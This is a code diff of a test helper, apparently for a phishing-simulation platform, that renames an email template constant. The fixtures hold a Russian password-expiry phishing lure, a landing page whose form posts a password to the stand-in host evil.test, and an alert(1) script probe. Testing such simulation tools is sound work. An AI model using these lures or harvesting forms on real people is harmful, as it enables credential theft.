@@ -7,7 +7,7 @@ import { trackingToken } from '../src/features/phishing-delivery/links.ts';
 import type { TestOrganization } from './make-organization.ts';
 import { phishingHost, type TestServer } from './start-server.ts';
 
-const LETTER = '<html><body><p>Здравствуйте, {{first_name}}</p><a href="{{link}}">Открыть срочно</a></body></html>';
+const EMAIL_HTML = '<html><body><p>Здравствуйте, {{first_name}}</p><a href="{{link}}">Открыть срочно</a></body></html>';
 const PAGE =
   '<html><head><title>x</title></head><body><form action="http://evil.test"><input name="password" type="password"><button>Go</button></form><script>alert(1)</script></body></html>';
 
@@ -40,7 +40,7 @@ export async function makeTemplate(
       sender_name: 'ИТ',
       sender_address: 'it@support.example',
       subject: 'Пароль истекает, {{first_name}}',
-      html: LETTER,
+      html: EMAIL_HTML,
       text: 'Откройте {{link}}',
       attachments: vectors.includes('attachments')
         ? [{ name: 'счёт.html', type: 'text/html', content: '<a href="{{link}}">Открыть</a>' }]
